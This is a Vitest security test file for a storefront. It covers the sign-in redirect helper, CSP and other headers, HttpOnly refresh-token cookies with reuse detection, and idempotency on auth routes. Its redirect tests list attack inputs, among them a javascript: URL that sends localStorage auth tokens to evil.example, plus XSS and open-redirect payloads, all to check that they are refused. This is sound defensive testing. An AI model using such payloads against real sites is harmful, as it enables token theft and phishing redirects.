import { describe, expect, it } from "vitest";
import { safeNextPath } from "../../public/assets/next-path.js";
import { SCALAR_INTEGRITY, SCALAR_VERSION } from "../../src/routes/docs";
import { call, json, signup } from "../helpers";

/** Finding 1 (high): token theft through the sign-in redirect, and the headers that contain a script injection. */
describe("sign-in redirect (next=)", () => {
  const origin = "http://127.0.0.1:8787";
  it.each([
    "javascript:fetch('//evil.example/'+localStorage.auth)",
    "JavaScript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://evil.example/login",
    "https://evil.example",
    "//evil.example/login",
    "/\\evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    " /store",
    "",
  ])("refuses %j and goes home instead", (next) => {
    expect(safeNextPath(next, origin)).toBe("/store");
  });
  it("keeps a same-origin path with its query and hash", () => {
    expect(safeNextPath("/store/orders/ord_1?x=1#top", origin)).toBe("/store/orders/ord_1?x=1#top");
    expect(safeNextPath(null, origin)).toBe("/store");
  });
});

describe("security headers", () => {
  it("serves store pages with a strict CSP: no inline script, no framing, nosniff, a referrer policy", async () => {
    const res = await call("GET", "/store/account");
    expect(res.status).toBe(200);
    const csp = res.headers.get("content-security-policy") ?? "";
    expect(csp).toContain("script-src 'self'");
    expect(csp).not.toContain("unsafe-inline");
    expect(csp).not.toContain("unsafe-eval");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("object-src 'none'");
    expect(csp).toContain("base-uri 'none'");
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect(res.headers.get("referrer-policy")).toBeTruthy();
    expect(res.headers.get("x-frame-options")).toBe("DENY");
    const html = await res.text();
    // No inline script and no inline handler: every <script> has a same-origin src.
    for (const tag of html.match(/<script[^>]*>/g) ?? []) expect(tag).toMatch(/src="\/assets\//);
    expect(html).not.toMatch(/\son[a-z]+=/i);
  });

  it("loads the API reference only from a pinned version with Subresource Integrity", async () => {
    const res = await call("GET", "/docs");
    const html = await res.text();
    const external = [...html.matchAll(/<script[^>]*src="(https?:[^"]+)"[^>]*>/g)];
    expect(external.length).toBe(1);
    expect(external[0][1]).toContain(`@scalar/api-reference@${SCALAR_VERSION}/`);
    expect(external[0][0]).toContain(`integrity="${SCALAR_INTEGRITY}"`);
    expect(external[0][0]).toContain('crossorigin="anonymous"');
    expect(html).not.toMatch(/<script(?![^>]*src=)[^>]*>/);
    expect(res.headers.get("content-security-policy")).toContain("frame-ancestors 'none'");
    expect(res.headers.get("content-security-policy")).not.toMatch(/script-src[^;]*unsafe-inline/);
  });
});

/** The storefront's refresh token lives in an HttpOnly cookie; API clients keep the body token. */
describe("refresh token cookie", () => {
  const COOKIE = { "x-refresh-cookie": "1" };
  const cookieOf = (res: Response) => /mp_refresh=([^;]+)/.exec(res.headers.get("set-cookie") ?? "")?.[1];

  it("sets an HttpOnly, Secure, SameSite=Strict cookie scoped to /auth and keeps the token out of the body", async () => {
    const user = await signup();
    const res = await call("POST", "/auth/login", {
      body: { email: user.user.email, password: user.password },
      headers: COOKIE,
    });
    expect(res.status).toBe(200);
    const body = await json(res);
    expect(body.refresh_token).toBeUndefined();
    expect(body.access_token).toBeTruthy();
    const setCookie = res.headers.get("set-cookie") ?? "";
    expect(setCookie).toMatch(/HttpOnly/i);
    expect(setCookie).toMatch(/Secure/i);
    expect(setCookie).toMatch(/SameSite=Strict/i);
    expect(setCookie).toMatch(/Path=\/auth/i);
  });

  it("rotates through the cookie, detects reuse of an old cookie, and clears it on logout", async () => {
    const user = await signup();
    const login = await call("POST", "/auth/login", {
      body: { email: user.user.email, password: user.password },
      headers: COOKIE,
    });
    const first = cookieOf(login)!;
    const refreshed = await call("POST", "/auth/refresh", {
      body: {},
      headers: { ...COOKIE, cookie: `mp_refresh=${first}` },
    });
    expect(refreshed.status).toBe(200);
    expect((await json(refreshed)).refresh_token).toBeUndefined();
    const second = cookieOf(refreshed)!;
    expect(second).not.toBe(first);
    // Replaying the first cookie is reuse: the whole family, the second cookie included, stops working.
    expect(
      (await call("POST", "/auth/refresh", { body: {}, headers: { ...COOKIE, cookie: `mp_refresh=${first}` } })).status,
    ).toBe(401);
    expect(
      (await call("POST", "/auth/refresh", { body: {}, headers: { ...COOKIE, cookie: `mp_refresh=${second}` } }))
        .status,
    ).toBe(401);

    const again = await call("POST", "/auth/login", {
      body: { email: user.user.email, password: user.password },
      headers: COOKIE,
    });
    const token = (await json(again)).access_token;
    const out = await call("POST", "/auth/logout", {
      body: {},
      token,
      headers: { ...COOKIE, cookie: `mp_refresh=${cookieOf(again)}` },
    });
    expect(out.status).toBe(204);
    expect(out.headers.get("set-cookie")).toMatch(/mp_refresh=;.*Max-Age=0/i);
    expect(
      (
        await call("POST", "/auth/refresh", {
          body: {},
          headers: { ...COOKIE, cookie: `mp_refresh=${cookieOf(again)}` },
        })
      ).status,
    ).toBe(401);
  });

  it("without the cookie header a refresh still needs refresh_token (400), and cookie mode without a cookie is 401", async () => {
    expect((await call("POST", "/auth/refresh", { body: {} })).status).toBe(400);
    expect((await call("POST", "/auth/refresh", { body: {}, headers: COOKIE })).status).toBe(401);
  });
});

/** Low: /auth answers are never stored under an Idempotency-Key (tokens in clear, refresh reuse skipped). */
describe("idempotency and tokens", () => {
  it("does not replay a refresh: the second exchange of one token is reuse, not a stored answer", async () => {
    const user = await signup();
    const headers = { "idempotency-key": "same-key-1" };
    const first = await call("POST", "/auth/refresh", { body: { refresh_token: user.refresh_token }, headers });
    expect(first.status).toBe(200);
    const second = await call("POST", "/auth/refresh", { body: { refresh_token: user.refresh_token }, headers });
    expect(second.status).toBe(401);
    expect(second.headers.get("idempotent-replayed")).toBeNull();
    // ... and the reuse revoked the family.
    expect(
      (await call("POST", "/auth/refresh", { body: { refresh_token: (await json(first)).refresh_token } })).status,
    ).toBe(401);
  });

  it("does not share a key between two cartless guests on one address", async () => {
    const headers = { "idempotency-key": "guest-key-1", "cf-connecting-ip": "203.0.113.77" };
    const a = await call("GET", "/cart", { headers });
    const b1 = await call("POST", "/cart/coupon", { body: { code: "NOPE-1" }, headers });
    const b2 = await call("POST", "/cart/coupon", { body: { code: "NOPE-1" }, headers });
    expect(a.status).toBe(200);
    expect(b1.headers.get("idempotent-replayed")).toBeNull();
    expect(b2.headers.get("idempotent-replayed")).toBeNull();
  });
});
